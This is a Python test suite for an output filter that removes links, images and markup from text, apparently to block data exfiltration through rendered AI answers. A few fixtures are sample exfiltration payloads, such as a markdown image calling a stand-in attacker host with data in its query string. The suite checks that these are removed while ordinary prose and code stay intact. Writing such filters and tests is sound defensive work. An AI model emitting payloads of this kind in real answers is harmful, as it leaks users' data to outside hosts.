"""The egress strip over the corpus: payloads leave harmless, ordinary answers leave as they came."""

import random
import sys
from collections.abc import Callable
from types import FrameType

import pytest

from registry import _egress_triggers as triggers
from registry import egress as module
from registry.egress import LINK_REMOVED, MARKUP_REMOVED, MAX_HELD, EgressFilter, scrub_snapshot, strip_egress
from tests.support.egress import FRAGMENTS, cut, prefixes, rows, stream

PAYLOADS = rows("payloads")
BENIGN = rows("benign")
TEXTS = [row["text"] for row in [*PAYLOADS, *BENIGN, *rows("fuzz")]]


def test_no_address_of_a_gated_payload_is_left() -> None:
    left = {
        row["id"]
        for row in PAYLOADS
        if row["expect"] == "strip"
        for piece in row["must_not_contain"]
        if piece in strip_egress(row["text"])
    }
    assert left == set()


def test_the_visible_words_of_a_payload_are_kept() -> None:
    lost = {row["id"] for row in PAYLOADS for words in row["must_contain"] if words not in strip_egress(row["text"])}
    assert lost == set()


def test_an_ordinary_answer_passes_byte_for_byte() -> None:
    """Debatable rows too: relative links of a word, tags without a way out, bare hosts and mail addresses."""
    assert [row["id"] for row in BENIGN if strip_egress(row["text"]) != row["text"]] == []


def test_what_stands_before_and_after_a_payload_survives() -> None:
    eaten: list[str] = []
    for row in PAYLOADS:
        stripped = strip_egress(f"Alpha stays here.\n\n{row['text']}\n\nOmega stays here.\n")
        if not (stripped.startswith("Alpha stays here.\n\n") and stripped.endswith("\n\nOmega stays here.\n")):
            eaten.append(row["id"])
    assert eaten == []


def test_stripping_twice_changes_nothing() -> None:
    once = [strip_egress(text) for text in TEXTS]
    assert [strip_egress(text) for text in once] == once


def test_every_cut_of_a_text_gives_the_text_of_one_shot() -> None:
    chance = random.Random(7)
    differ: set[str] = set()
    for text in TEXTS:
        want = strip_egress(text)
        places = range(1, len(text)) if len(text) <= 400 else chance.sample(range(1, len(text)), 12)
        if any(stream([text[:place], text[place:]]) != want for place in places):
            differ.add(text)
        if len(text) < 5000 and stream(text) != want:
            differ.add(text)
        some = chance.sample(range(1, len(text)), min(len(text) - 1, 5)) if len(text) > 2 else []
        if stream(cut(text, some)) != want:
            differ.add(text)
    assert differ == set()


def test_the_chunks_that_a_payload_came_in_give_the_text_of_one_shot() -> None:
    chunked = [row for row in PAYLOADS if "chunks" in row]
    assert chunked
    assert [row["id"] for row in chunked if stream(row["chunks"]) != strip_egress(row["text"])] == []


def test_what_a_reader_has_before_the_end_is_clean_too() -> None:
    unclean = [shown for text in TEXTS if len(text) < 600 for shown in prefixes(text) if strip_egress(shown) != shown]
    assert unclean == []


def test_no_more_than_the_stated_number_of_characters_waits() -> None:
    most = 0
    for text in TEXTS:
        egress = EgressFilter()
        for character in text[:3000]:
            egress.feed(character)
            most = max(most, egress.held)
    assert 40 < most <= MAX_HELD <= 300


def test_a_later_snapshot_begins_with_what_an_earlier_one_had_settled() -> None:
    for text in (row["text"] for row in PAYLOADS if len(row["text"]) < 300):
        egress = EgressFilter()
        settled = ""
        for end, character in enumerate(text, 1):
            settled += egress.feed(character)
            assert scrub_snapshot(text[:end]).startswith(settled)
        assert scrub_snapshot(text).startswith(settled)


@pytest.mark.parametrize(
    ("text", "stripped"),
    [
        ("Look ![the chart](https://evil.example/p?d=S) here.", "Look ![the chart] here."),
        ('See [the docs](https://a.test/x "T") first.', "See [the docs] first."),
        ("At https://a.test/x_(y), they say.", f"At {LINK_REMOVED}, they say."),
        ('{"url":"https://a.test/x","n":1}', f'{{"url":"{LINK_REMOVED}","n":1}}'),
        ("请看https://a.test/x。谢谢", f"请看{LINK_REMOVED}。谢谢"),
        ('a <img src="https://a.test/x"> b', f"a {MARKUP_REMOVED} b"),
        ("[1]: https://a.test/x\n\nAs in [1].", f"[1] {LINK_REMOVED}\n\nAs in [1]."),
        ("[x](https://a.test never closed, and words", "[x] never closed, and words"),
        ("call handlers[kind](event.data) now", "call handlers[kind] (event.data) now"),
        ("[12]: /usr/bin/x started", "[12] : /usr/bin/x started"),
        ("an open <!-- comment and <?php echo 1", "an open < !-- comment and < ?php echo 1"),
        ("<!-- a > b --> and <!-->", "< !-- a > b --> and < !-->"),
        ("use the <script> tag", "use the < script> tag"),
        ("\x1b[1mbold\x1b[0m \x1b]8;;https://a.test\x07text\x1b]8;;\x07", "bold text"),
        ("$\\href{//a.test/x}{y}$", f"${LINK_REMOVED}{{y}}$"),
    ],
)
def test_what_is_removed_and_what_stays(text: str, stripped: str) -> None:
    assert strip_egress(text) == stripped


@pytest.mark.parametrize(
    "text",
    [
        "for (int i=0;i<n;i++) { a[i] = b[i]; } // done",
        "if x<y:\n    name = 'a'\n",
        'for k in x[1:]:\n    print(f"{k}: 1/2")\n',
        "sshd[12]: /usr/bin/x started",
        "[Setup](#setup) and [Usage](#usage-notes)",
        '<div class="note">text</div> <App title="x" /> <td colspan=2>',
        "@app.get('/user/<int:id>')",
        "driver.find(\"//div[@id='x']\") and //TODO: later",
        'path = "C:\\\\Users\\\\me" and C:\\Users\\me',
        "12:30, 3:1, a:b, x::y, std::vector<std::string>, Vec<std::string::String>",
        "\\includegraphics[width=2in]{figures/plot.png} and \\url is a command",
        "handlers[0]() and a[i](x, y) and f[0](-1)",
        "const f = (a) => a?.b ?? c; // e.g. this",
        "caf\u00e9 \u65e5\u672c\u8a9e\uff1a\u30c6\u30b9\u30c8 \u200b zwsp",
        "`<!-- -->` is a comment, <!-- the list, part 2 --> too, and <!DOCTYPE html> comes first",
        "bob@corp.example and example.com and \\\\server\\share",
        'def f(file:str, data:bytes) -> None: """x"""',
    ],
)
def test_code_and_prose_that_look_like_triggers_are_left_alone(text: str) -> None:
    assert strip_egress(text) == text


def test_the_placeholders_are_inert_wherever_they_stand() -> None:
    for placeholder in (LINK_REMOVED, MARKUP_REMOVED):
        for around in ("{0}(//a.test/x)", "[{0}](b)", "[r]: {0}", "www.{0}", "//{0}", "mailto:{0}", "</{0}"):
            text = strip_egress(around.format(placeholder))
            assert placeholder in text
            assert strip_egress(text) == text


def test_the_answers_of_the_long_pattern_are_the_answers_of_the_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    """Where triggers stand thick a pattern answers; without it every trigger is settled one by one."""
    chance = random.Random(11)
    pieces = [
        *FRAGMENTS,
        *[
            "]:",
            "](",
            "]:/",
            ":/",
            "://",
            "<b>",
            "<b",
            "<a",
            "x=",
            "<svg>",
            "</svg>",
            "<!--",
            "x[1]:",
            "](a)",
            "](#a)",
            "[",
            "=",
            "=>",
            "<linK<",
            "data：/",
        ],
    ]
    texts = ["".join(chance.choices(chance.choices(pieces, k=3), k=60)) for _ in range(500)]
    texts += ["".join(chance.choices(pieces, k=30)) for _ in range(500)]
    quick = [strip_egress(text) for text in texts]
    monkeypatch.setattr(triggers, "THICK", -1_000_000)
    assert [strip_egress(text) for text in texts] == quick


def count_calls(work: Callable[[], object]) -> int:
    """How many functions, ours and built in, are called on the way."""
    calls = 0

    def seen(frame: FrameType, event: str, argument: object) -> None:
        nonlocal calls
        calls += event in ("call", "c_call")

    sys.setprofile(seen)
    try:
        work()
    finally:
        sys.setprofile(None)
    return calls


def test_the_work_grows_with_the_length_and_no_faster() -> None:
    """The time itself is measured by the benchmark; a count of calls is the same on every machine."""
    hostile = [row["text"] for row in PAYLOADS if row["class"] == "dos"]
    hostile += [
        "<a ",
        "<a x=",
        "[x](",
        "]:",
        "](",
        "<x y='",
        "<b>",
        "&#58;",
        "i<n;",
        "//a.b ",
        "\x1b]",
        "\\href{",
    ]
    for text in hostile:
        short, long = ((text * (size // len(text) + 1))[:size] for size in (4_000, 32_000))
        before = count_calls(lambda short=short: strip_egress(short))  # type: ignore[misc]  # bound at once
        after = count_calls(lambda long=long: strip_egress(long))  # type: ignore[misc]  # bound at once
        assert after < 9 * before + 2_000, text[:20]


@pytest.mark.slow
def test_a_million_characters_one_at_a_time_need_no_more_room_than_a_thousand() -> None:
    egress = EgressFilter()
    sentence = "A [link](https://evil.example/S), a word, a<b and more of it. "
    written = most = 0
    for _ in range(1_000_000 // len(sentence)):
        for character in sentence:
            written += len(egress.feed(character))
        most = max(most, egress.held, len(egress._machine._text))
    assert most < 1_000
    assert written > 600_000


def test_the_public_names_are_these() -> None:
    assert module.__all__ == sorted(module.__all__, key=lambda name: (not name.isupper(), not name[0].isupper(), name))
    assert all(hasattr(module, name) for name in module.__all__)
